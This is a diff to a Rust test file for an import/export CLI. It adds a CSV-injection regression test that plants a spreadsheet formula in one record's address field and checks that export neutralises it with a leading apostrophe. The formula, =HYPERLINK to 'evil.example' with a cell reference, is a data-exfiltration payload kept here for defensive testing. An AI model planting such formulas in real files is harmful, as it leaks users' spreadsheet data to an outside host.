@@ -112,7 +112,11 @@ async fn all_or_nothing_and_dry_run_store_nothing() {
 #[tokio::test]
 async fn export_round_trips_through_import() {
     let env = Env::new().await;
-    let src = orgs(120);
+    let mut src = orgs(120);
+    // A value a spreadsheet would run as a formula (OWASP CSV injection): exported as text
+    // (a leading '), imported back unchanged.
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
+    src[7].address = evil.to_string();
     let path = env.dir.join("src.jsonl");
     write(&path, &src, Format::Jsonl);
     assert!(
@@ -129,6 +133,13 @@ async fn export_round_trips_through_import() {
         let o = env.run(&["export", "orgs", "--format", fmt, "-o", &out]);
         assert!(o.status.success(), "{:?}", text(&o));
         assert!(text(&o).0.contains("已导出 120 家"));
+        if fmt == "csv" {
+            let csv = std::fs::read_to_string(&out).unwrap();
+            assert!(
+                !csv.contains(",=HYPERLINK") && csv.contains("'=HYPERLINK"),
+                "{fmt}"
+            );
+        }
         // Importing the export into the same database changes nothing.
         let o = env.run(&["import", "orgs", &out]);
         assert!(
